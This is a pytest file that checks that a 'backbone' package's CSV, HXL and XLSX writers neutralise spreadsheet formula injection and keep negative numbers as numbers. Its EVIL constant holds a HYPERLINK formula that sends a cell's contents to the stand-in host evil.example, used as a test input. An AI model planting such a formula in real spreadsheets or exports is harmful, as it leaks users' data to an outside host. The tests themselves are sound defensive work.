"""What Backbone writes never runs as a formula in a spreadsheet, and numbers stay numbers."""

import csv
import io

import pytest
from openpyxl import load_workbook

from backbone.interchange.writers import Sheet, safe_text, write

EVIL = '=HYPERLINK("http://evil.example/?leak="&A2,"x")'


def _csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode())))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_that_a_spreadsheet_would_run_is_neutralised(start):
    assert safe_text(f"{start}SUM(A1:A9)") == f"'{start}SUM(A1:A9)"


def test_numbers_and_plain_text_are_written_as_they_are():
    assert safe_text(-12) == -12
    assert safe_text(-0.5) == -0.5
    assert safe_text("UA-46") == "UA-46"
    assert safe_text(None) == ""


def test_csv_and_hxl_carry_no_live_formula_and_keep_negative_numbers():
    sheet = Sheet(headers=["name", "value"], rows=[[EVIL, -3], ["+1 555", 4]], tags=["#org", "#x"])
    for fmt in ("csv", "hxl"):
        rows = _csv_rows(write(Sheet(sheet.headers, list(sheet.rows), sheet.tags), fmt))
        body = rows[2:] if fmt == "hxl" else rows[1:]
        assert body == [["'" + EVIL, "-3"], ["'+1 555", "4"]]


def test_xlsx_writes_formula_like_text_as_text_and_numbers_as_numbers():
    data = write(Sheet(headers=["name", "value"], rows=[[EVIL, -3], ["ok\x00\x07", 2.5]]), "xlsx")
    sheet = load_workbook(io.BytesIO(data)).active
    name, value = sheet["A2"], sheet["B2"]
    assert name.data_type == "s" and name.value == EVIL
    assert value.data_type == "n" and value.value == -3
    # Control characters stored earlier cannot break the file.
    assert sheet["A3"].value == "ok"
